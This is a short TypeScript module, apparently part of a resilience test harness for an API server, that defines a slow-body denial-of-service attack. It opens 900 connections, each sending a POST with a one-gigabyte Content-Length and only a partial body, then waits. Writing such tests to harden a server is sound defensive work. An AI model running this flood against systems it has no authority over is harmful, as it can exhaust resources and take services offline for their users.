import type { Attack } from '../attack.ts';
import { ATTACKER_TOKEN } from '../attack.ts';
import { openMany, sleep } from '../hostile.ts';

const CONNECTIONS = 900;

export const unfinishedBodies: Attack = {
  name: 'unfinished-bodies',
  what: '900 uploads that the API server does not read to their end',
  run: async (target) => {
    const head = [
      'POST /hang HTTP/1.1',
      'Host: x',
      `Authorization: Bearer ${ATTACKER_TOKEN}`,
      'Content-Length: 1000000000',
      '',
      '',
    ].join('\r\n');
    for (const socket of await openMany(target, CONNECTIONS)) socket.write(head + 'x'.repeat(1024 * 1024));
    await sleep(10_000);
  },
};
